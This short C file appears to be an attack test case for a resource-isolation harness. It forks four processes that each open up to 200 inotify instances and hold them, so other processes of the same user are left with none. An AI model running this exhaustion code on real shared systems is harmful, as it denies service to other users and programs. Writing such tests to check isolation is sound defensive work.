/* @ATTACK: opens inotify instances, of which a user has so many, and holds them: others of that user have none left
 * @EXPECT: all=SUCCESS
 */
#include "attack.h"
#include <sys/inotify.h>
#include <sys/prctl.h>

int main(void) {
    int total = 0, pipes[2];
    int seconds = atoi(outside("HOLD"));
    if (pipe(pipes)) return 1;
    for (int i = 0; i < 4; i++) {
        if (fork()) continue;
        int count = 0;
        while (count < 200 && inotify_init1(0) >= 0) count++;
        if (write(pipes[1], &count, sizeof count) < 0) _exit(1);
        sleep(seconds);
        _exit(0);
    }
    for (int i = 0; i < 4; i++) {
        int count = 0;
        if (read(pipes[0], &count, sizeof count) != sizeof count) return 1;
        total += count;
    }
    /* By this name the harness sees that they are held. */
    prctl(PR_SET_NAME, outside("NAME"));
    sleep(seconds);
    TRIED("%d inotify instances", total);
    return 0;
}
